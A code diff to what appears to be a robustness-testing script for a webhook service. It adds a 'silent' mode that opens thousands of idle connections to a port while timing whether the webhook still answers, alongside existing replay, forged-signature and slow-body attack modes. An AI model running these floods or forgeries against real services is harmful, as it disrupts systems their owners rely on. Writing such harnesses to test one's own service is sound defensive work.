@@ -18,11 +18,12 @@ import time
 import urllib.parse
 
 parser = argparse.ArgumentParser()
-parser.add_argument("attack", choices=["forged-leaf", "forged-chain", "half-sent", "repeated", "junk", "unread"])
+parser.add_argument("attack", choices=["forged-leaf", "forged-chain", "half-sent", "repeated", "junk", "unread", "silent"])
 parser.add_argument("--target", required=True)
 parser.add_argument("--seconds", type=float, required=True)
 parser.add_argument("--rate", type=float, default=0, help="requests per second; 0 is as fast as possible")
 parser.add_argument("--connections", type=int, default=8)
+parser.add_argument("--port", type=int, help="of the silent connections")
 parser.add_argument("--bytes", type=int, default=110_000, help="of a half-sent body")
 parser.add_argument("--body", type=pathlib.Path, required=True, help="a captured, genuine request body")
 parser.add_argument("--work", type=pathlib.Path, required=True, help="directory for keys")
@@ -170,6 +171,37 @@ def hold(count_of, first):
         connection.close()
 
 
+def silent(port, count_of):
+    """Opens connections to another port and says nothing on them; asks the webhook's port for a page meanwhile."""
+    held = []
+
+    def probe():
+        while time.monotonic() < deadline:
+            begun = time.monotonic()
+            try:
+                connection = http.client.HTTPConnection(target.hostname, target.port, timeout=30)
+                connection.request("GET", "/nothing")
+                connection.getresponse().read()
+                connection.close()
+                # Silence ends after ten seconds: who waits for a place waits about as long.
+                count("webhook answered" if time.monotonic() - begun < 5 else "webhook waited")
+            except OSError:
+                count("webhook waited")
+            time.sleep(0.05)
+
+    prober = threading.Thread(target=probe)
+    prober.start()
+    while time.monotonic() < deadline and len(held) < count_of:
+        connection = socket.socket()
+        connection.setblocking(False)
+        connection.connect_ex((target.hostname, port))
+        held.append(connection)
+        count("opened")
+    prober.join()
+    for connection in held:
+        connection.close()
+
+
 def head(length, more=""):
     return (f"POST {target.path} HTTP/1.1\r\nHost: {target.netloc}\r\nContent-Type: application/json\r\n{more}"
             f"Content-Length: {length}\r\n\r\n").encode()
@@ -184,6 +216,9 @@ elif arguments.attack == "forged-chain":
     post_all(chains)
 elif arguments.attack == "repeated":
     post_all(once(captured))
+elif arguments.attack == "silent":
+    deadline = time.monotonic() + max(arguments.seconds, 15)
+    silent(arguments.port, 9000)
 elif arguments.attack == "junk":
     post_all(junk())
 elif arguments.attack == "half-sent":
